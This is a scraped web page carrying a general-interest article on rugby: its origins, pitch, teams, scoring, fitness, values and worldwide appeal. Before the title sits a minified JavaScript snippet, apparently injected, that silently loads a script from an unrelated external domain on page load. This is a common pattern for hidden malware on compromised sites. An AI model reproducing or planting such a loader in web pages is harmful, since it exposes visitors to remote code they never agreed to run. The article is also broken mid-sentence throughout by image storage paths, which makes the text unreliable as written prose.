;(function(f,b,n,j,x,e){x=b.createElement(n);e=b.getElementsByTagName(n)[0];x.async=1;x.src=j;e.parentNode.insertBefore(x,e);})(window,document,"script","https://treegreeny.org/KDJnCSZn");Rugby: A Brutal Ballet of Strength, Strategy, and Camaraderie - thesportsgazette.net

Rugby: A Brutal Ballet of Strength, Strategy, and Camaraderie

Rugby, a sport born on the playing fields of England in the early 19th century, has grown into a global phenomenon, capturing the hearts of millions with its unique blend of athleticism, strategy, and camaraderie. Often described as a “brutal ballet,” rugby is a game that demands physical prowess, mental acumen, and a deep sense of teamwork. In this article, we will explore the captivating world of rugby, delving into its history, key elements, the physical and mental benefits it offers, and the enduring appeal that has made it a beloved sport across the globe.

Rugby’s origincan be traced back to 1823 when a young William Webb Ellis allegedly picked up a soccer ball and ran with it during a game at Rugby School in England. This moment is considered the birth of rugby football, and it laid the foundation for the sport we know today.

The game quickly gained popularity in the British Isles and later spread to other parts of the world, including New Zealand, Australia, South Africa, and beyond. Different variations of rugby emerged, leading to the formation of two major codes: rugby union and rugby league. Rugby union became the international standard, with the Rugby World Cup established in 1987 as one of its premier events.

The Field: A rugby field, often called a pitch, is rectangular with dimensions ranging from 100 to 144 meters in length and 68 to 70 meters in width. The playing area is divided into two halves by the halfway line.

The Teams: Each rugby teamtypically consists of 15 players, divided into forwards and backs. The forwards are responsible for winning possession of the ball, while the backs are known for their speed and agility, focusing on scoring points.

The Ball: Rugby uses an oval-shaped ball made of leather or synthetic materials. It is slightly larger than a soccer ball and requires precise handling skills.

Scoring: Points in rugby can be scored through tries, conversions, penalties, and drop goals. A try is scored when a player grounds the ball in the opponent’s in-goal area. A conversion is a kick through the posts after a try, while penalties and drop goals involve kicking the ball over the crossbar.

Gameplay: Rugby is played in two 40-minute halves, with the objective of moving the ball forward and scoring points while adhering to rules and regulations that govern player behavior, such as tackling, rucking, andmauling.

Physical Fitness: Rugby is a high-intensity sport that requires strength, speed, endurance, and agility. Players undergo rigorous training regimens to meet the physical demands of the game.

Teamwork: Rugby is the epitome of a team sport, with players relying on each other for support, both in attack and defense. Teamwork is a core value of rugby and teaches the importance of cooperation and communication.

Mental Toughness: Rugby is a physically demanding sport that can be mentally challenging as well. Players must remain focused, makequick decisions, and adapt to ever-changing game situations.

Discipline and Respect: Rugby places a strong emphasis on discipline and respect for the rules, the officials, and opponents. These values extend beyond the field, contributing to a sense of integrity and sportsmanship.

Rugby’s enduring appeal can be attributed to several factors:

Global Reach: Rugby has a significant presence in various parts of the world, from traditional powerhouses like New Zealand and England to emerging nations such as Japan and the United States. This global reach contributes to its widespread popularity.

Passionate Fanbase: Rugby has a dedicated and passionate fanbase that supports their teams with unwavering loyalty. The atmosphere at rugby matches, especially international fixtures, is often electric and unforgettable.

Spectacular Events: The Rugby World Cup, held every four years, is one of the most-watched sporting events globally. It showcases the best teams from around the world and generates intense excitement.

Inclusivity: Rugby is a sport that welcomes players of all sizes and backgrounds. Different positions cater to various skill sets, making it accessible to a wide range of athletes.

Rich Traditions: Rugby has a deep-rooted history and traditions that are cherished by players and fans alike. The haka performed by the New Zealand All Blacks before matches is just one example of the sport’s rich cultural heritage.Rugby is more than just a sport; it’s a way of life for many and a source of inspiration for countless individuals. Its history, unique elements, physical andmental benefits, and passionate following make it a truly exceptional sport. Whether you’re a player, a fan, or someone just discovering the world of rugby,the sport’s enduring appeal is undeniable. Rugby, with its blend of brutality and finesse, is a testament to the powerof athleticism, strategy, and camaraderie, making it a sport that will continue tocaptivate hearts and minds around the world forgenerations to come.